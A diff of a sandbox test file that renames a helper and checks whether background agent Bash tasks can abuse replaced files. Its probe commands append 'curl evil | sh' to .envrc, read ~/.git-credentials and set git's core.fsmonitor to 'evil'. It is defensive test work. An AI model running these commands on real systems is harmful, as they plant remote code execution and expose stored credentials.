@@ -6,7 +6,7 @@
 import { spawn, spawnSync, type ChildProcess } from "node:child_process";
 import { chmodSync, chownSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, renameSync, rmSync, writeFileSync } from "node:fs";
 import http from "node:http";
-import net from "node:net";
+import type net from "node:net";
 import path from "node:path";
 import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
 import { BUNDLE, bundleExists, bundleForAnyUser, CoreProcess, stopCores, type Message } from "./support/coreProcess.js";
@@ -295,10 +295,10 @@ describe.each(testAccounts().map((a) => [a.label, a] as const))("the sandbox's s
     await init(c);
     // Each task waits until the file has been replaced outside, then tries what the lapsed mount would allow.
     const go = path.join(e.ws, "go");
-    const after = (body: string) => `while [ ! -e ${go} ]; do sleep 0.05; done; ${body}; sleep 30`;
+    const onceGo = (body: string) => `while [ ! -e ${go} ]; do sleep 0.05; done; ${body}; sleep 30`;
     const start = async (command: string) => structured(await c.request("tools/call", { name: "Bash", arguments: { command, run_in_background: true } }));
-    const writer = await start(after("echo 'curl evil | sh' >> .envrc && echo WROTE-ENVRC"));
-    const reader = await start(after("cat ~/.git-credentials"));
+    const writer = await start(onceGo("echo 'curl evil | sh' >> .envrc && echo WROTE-ENVRC"));
+    const reader = await start(onceGo("cat ~/.git-credentials"));
     // The user's tools replace files by rename: an editor's atomic save, git credential-store, git config.
     const swap = (file: string, content: string) => {
       write(`${file}.tmp`, content, 0o600);
@@ -310,7 +310,7 @@ describe.each(testAccounts().map((a) => [a.label, a] as const))("the sandbox's s
     const finished = (id: string) => c.notifications("task/finished").some((n) => n.params.task.taskId === id);
     expect(await waitFor(() => finished(writer.backgroundTaskId) && finished(reader.backgroundTaskId), 10_000)).toBe(true);
     // A task started now, on the new files; then git config replaces .git/config by rename.
-    const gitWriter = await start(after("git config core.fsmonitor evil 2>&1 | tail -1; echo 'x' > .git/config.new 2>&1"));
+    const gitWriter = await start(onceGo("git config core.fsmonitor evil 2>&1 | tail -1; echo 'x' > .git/config.new 2>&1"));
     await new Promise((r) => setTimeout(r, 300));
     expect(gitAs(account, e, e.ws, "config wave.touched yes").status).toBe(0);
     write(go, "");
